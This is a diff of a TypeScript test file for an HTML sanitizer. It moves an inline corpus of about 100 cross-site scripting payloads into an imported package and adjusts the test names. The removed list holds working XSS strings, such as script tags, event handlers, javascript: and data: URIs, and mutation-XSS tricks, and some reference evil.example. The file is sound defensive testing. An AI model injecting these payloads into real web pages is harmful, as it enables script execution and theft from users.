@@ -1,111 +1,9 @@
 import { performance } from 'node:perf_hooks';
+import { ATTACKS } from '@safarnama/attacks';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { cleanMarkup, looksLikeMarkup, markupToText, textToMarkup } from './markup.js';
 import { readMarkup } from './tidy-markup.js';
-
-/** Each tries to run `alert(1)` in a browser, or to leave the page. */
-const ATTACKS: readonly string[] = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<script/xss>alert(1)</script>',
-  '<script>alert(1)',
-  '<script\u0000>alert(1)</script>',
-  '<<script>alert(1);//<</script>',
-  '</p><script>alert(1)</script><p>',
-  '<p><script>alert(1)</p></script>',
-  '<img src=x onerror=alert(1)>',
-  '<img src=x onerror=alert(1)//',
-  '<img/src="x"/onerror="alert(1)">',
-  '<img src=`x` onerror=`alert(1)`>',
-  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
-  '<image src=x onerror=alert(1)>',
-  '<svg onload=alert(1)>',
-  '<svg/onload=alert(1)//',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg><script href="data:text/javascript,alert(1)"/></svg>',
-  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
-  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>tap</text></a></svg>',
-  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
-  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
-  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
-  '<math><mi xlink:href="javascript:alert(1)">tap</mi></math>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>',
-  '<frameset onload=alert(1)>',
-  '<object data="javascript:alert(1)"></object>',
-  '<embed src="javascript:alert(1)">',
-  '<applet code="x" onload=alert(1)></applet>',
-  '<base href="javascript:alert(1)//">',
-  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-  '<link rel="stylesheet" href="javascript:alert(1)">',
-  '<style>@import "javascript:alert(1)";</style>',
-  '<style><img src="</style><img src=x onerror=alert(1)//">',
-  '<p style="background:url(javascript:alert(1))">x</p>',
-  '<p style="width:expression(alert(1))">x</p>',
-  '<body onload=alert(1)>',
-  '<body background="javascript:alert(1)">',
-  '<video><source onerror=alert(1)></video>',
-  '<video poster=javascript:alert(1)//></video>',
-  '<audio src=x onerror=alert(1)></audio>',
-  '<details open ontoggle=alert(1)>x</details>',
-  '<marquee onstart=alert(1)>x</marquee>',
-  '<input autofocus onfocus=alert(1)>',
-  '<select onchange=alert(1)><option>x</option></select>',
-  '<textarea autofocus onfocus=alert(1)></textarea>',
-  '<textarea></textarea><script>alert(1)</script>',
-  '<button formaction="javascript:alert(1)">x</button>',
-  '<form action="javascript:alert(1)"><input type=submit></form>',
-  '<isindex action="javascript:alert(1)" type=image>',
-  '<keygen autofocus onfocus=alert(1)>',
-  '<p onclick=alert(1)>x</p>',
-  '<p onpointerover="alert(1)" tabindex=1>x</p>',
-  '<p/onmouseenter=alert(1)>x</p>',
-  '<h2 onanimationstart=alert(1) style="animation-name:x">x</h2>',
-  '<ol start="1\\" onclick=\\"alert(1)"><li>x</li></ol>',
-  '<ol start=javascript:alert(1)><li>x</li></ol>',
-  '<li data-list="bullet" onclick=alert(1)" class="ql-indent-1 x" onclick=alert(1)">x</li>',
-  '<p dir="ltr" onclick=alert(1)" lang="hi" onclick=alert(1)">x</p>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="JaVaScRiPt:alert(1)">x</a>',
-  '<a href=" \u0001javascript:alert(1)">x</a>',
-  '<a href="java\nscript:alert(1)">x</a>',
-  '<a href="java&#x09;script:alert(1)">x</a>',
-  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
-  '<a href="&#0000106avascript&colon;alert(1)">x</a>',
-  '<a href="javascript://example.com/%0Aalert(1)">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
-  '<a href="blob:https://example.com/x">x</a>',
-  '<a href="file:///etc/passwd">x</a>',
-  '<a href="//evil.example">x</a>',
-  '<a href="view-source:javascript:alert(1)">x</a>',
-  '<a href="https://example.com" onclick="alert(1)">x</a>',
-  '<a href="https://example.com" target="_self" rel="opener" ping="//evil.example" onclick=alert(1)>x</a>',
-  '<a/href="https://example.com"/onclick=alert(1)>x</a>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<template><script>alert(1)</script></template>',
-  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
-  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
-  '<title><a title="</title><img src=x onerror=alert(1)>">',
-  '<plaintext><script>alert(1)</script>',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '<!--<img src="--><img src=x onerror=alert(1)//">',
-  '<![CDATA[><img src=x onerror=alert(1)>]]>',
-  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
-  '<custom-element onclick=alert(1)>x</custom-element>',
-  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
-  '<p>&#60;img src=x onerror=alert(1)&#62;</p>',
-  '<p \u2028onclick=alert(1)>x</p>',
-  '\ufeff<script>alert(1)</script>',
-  '＜script＞alert(1)＜/script＞',
-  '<p><a href="https://x.example/"><p><img src=x onerror=alert(1)></a>',
-  '<table background="javascript:alert(1)"><td onclick=alert(1)>x</td></table>',
-];
 
 const TAGS = new Set(['p', 'strong', 'em', 'u', 's', 'a', 'ul', 'ol', 'li', 'h2', 'h3', 'blockquote']);
 const ATTRIBUTE = / (href|rel|target|start|dir|lang)="([^"<>]*)"/g;
@@ -134,14 +32,10 @@ function expectClean(html: string): void {
 }
 
 describe('cleanMarkup', () => {
-  it('the corpus: holds at least 60 attacks, none twice', () => {
-    expect(new Set(ATTACKS).size).toBeGreaterThanOrEqual(60);
-    expect(new Set(ATTACKS).size).toBe(ATTACKS.length);
-  });
-
-  it.each(ATTACKS)(
+  // Named in one printable line each.
+  it.each(ATTACKS.map((attack) => [JSON.stringify(attack).slice(0, 100), attack]))(
     'of %s: leaves allow-listed elements and text only, alone and within a story',
-    (attack) => {
+    (_name, attack) => {
       for (const html of [attack, `<p>before ${attack} after</p><ul><li>${attack}</li></ul>`]) {
         const clean = cleanMarkup(html);
 
@@ -223,6 +117,13 @@ describe('cleanMarkup', () => {
       }),
       { numRuns: 400 },
     );
+  });
+
+  it.each([
+    ['markup', (text: string) => cleanMarkup(`<p>${text}</p>`)],
+    ['text', textToMarkup],
+  ])('of %s with NUL and other line ends: keeps what a browser would keep of it', (_kind, make) => {
+    expect(make('a\0b\rc\r\nd').replaceAll('<br />', '\n')).toBe('<p>ab\nc\nd</p>');
   });
 
   it('of everything that is allowed: keeps it', () => {
